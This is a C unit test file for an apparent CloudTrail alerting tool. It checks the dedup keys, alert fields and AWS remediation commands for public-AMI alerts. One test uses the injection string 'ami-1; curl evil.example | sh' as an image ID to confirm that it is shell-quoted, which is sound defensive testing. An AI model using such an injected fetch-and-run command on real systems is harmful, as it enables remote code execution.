/* SPDX-License-Identifier: MIT */
/* test_alert.c -- the alert document, its dedup key and its remediation commands. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "trailhook/alert.h"

static int load_spec(void **state)
{
    struct th_spec *spec = NULL;
    char err[256];
    assert_int_equal(th_spec_load(TH_SOURCE_DIR
                                  "/config/rules/aws_ami_modified_for_public_access.yml",
                                  &spec, err, sizeof(err)),
                     TH_OK);
    *state = spec;
    return 0;
}

static int free_spec(void **state)
{
    th_spec_free(*state);
    return 0;
}

static json_t *event(const char *image)
{
    json_t *ev = json_pack("{s:s, s:s, s:s, s:s, s:{s:s}}", "eventName", "ModifyImageAttribute",
                           "eventID", "e-1", "recipientAccountId", "123456789012", "awsRegion",
                           "us-west-2", "requestParameters", "imageId", image);
    return ev;
}

static void dedup_key_is_per_image_by_default(void **state)
{
    json_t *a = event("ami-1");
    json_t *b = event("ami-2");
    char *ka = th_alert_dedup_key(*state, TH_DEDUP_IMAGE, a);
    char *kb = th_alert_dedup_key(*state, TH_DEDUP_IMAGE, b);
    char *ra = th_alert_dedup_key(*state, TH_DEDUP_RULE, a);
    char *rb = th_alert_dedup_key(*state, TH_DEDUP_RULE, b);
    assert_string_equal(ka,
                        "AWS.CloudTrail.AMIModifiedForPublicAccess:123456789012:us-west-2:ami-1");
    assert_string_not_equal(ka, kb);
    /* Panther's own default: one alert per rule per period. */
    assert_string_equal(ra, "defaultDedupString:AWS.CloudTrail.AMIModifiedForPublicAccess");
    assert_string_equal(ra, rb);
    free(ka);
    free(kb);
    free(ra);
    free(rb);
    json_decref(a);
    json_decref(b);
}

static void document_carries_the_spec_text(void **state)
{
    const struct th_spec *spec = *state;
    struct th_rule_result res = {TH_RULE_MATCH, "", "group:all"};
    json_t *ev = event("ami-1");
    json_t *doc = th_alert_doc(spec, ev, &res);
    assert_string_equal(json_string_value(json_object_get(doc, "title")),
                        "Amazon Machine Image (AMI) Modified to Allow Public Access");
    assert_string_equal(json_string_value(json_object_get(doc, "severity")), "Medium");
    assert_string_equal(json_string_value(json_object_get(doc, "runbook")), spec->runbook);
    assert_string_equal(
        json_string_value(json_object_get(doc, "reference")),
        "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/sharingamis-intro.html");
    assert_string_equal(json_string_value(json_object_get(doc, "image_id")), "ami-1");
    assert_true(json_is_object(json_object_get(doc, "context")));
    assert_true(json_is_object(json_object_get(doc, "summary_attributes")));
    json_t *cmds = json_object_get(doc, "remediation");
    assert_true(json_array_size(cmds) >= 3);
    const char *revoke = json_string_value(json_object_get(json_array_get(cmds, 2), "command"));
    assert_non_null(strstr(revoke, "--image-id ami-1"));
    assert_non_null(strstr(revoke, "--region us-west-2"));
    assert_non_null(strstr(revoke, "Group=all"));
    json_decref(doc);
    json_decref(ev);
}

static void hostile_values_are_shell_quoted(void **state)
{
    const struct th_spec *spec = *state;
    struct th_rule_result res = {TH_RULE_MATCH, "", "group:all"};
    json_t *ev = event("ami-1; curl evil.example | sh");
    json_t *doc = th_alert_doc(spec, ev, &res);
    const char *cmd = json_string_value(
        json_object_get(json_array_get(json_object_get(doc, "remediation"), 1), "command"));
    assert_non_null(strstr(cmd, "--image-id 'ami-1; curl evil.example | sh'"));
    char *q = th_alert_shell_quote("it's");
    assert_string_equal(q, "'it'\\''s'");
    free(q);
    q = th_alert_shell_quote("ami-0123abc");
    assert_string_equal(q, "ami-0123abc");
    free(q);
    json_decref(doc);
    json_decref(ev);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(dedup_key_is_per_image_by_default, load_spec, free_spec),
        cmocka_unit_test_setup_teardown(document_carries_the_spec_text, load_spec, free_spec),
        cmocka_unit_test_setup_teardown(hostile_values_are_shell_quoted, load_spec, free_spec),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
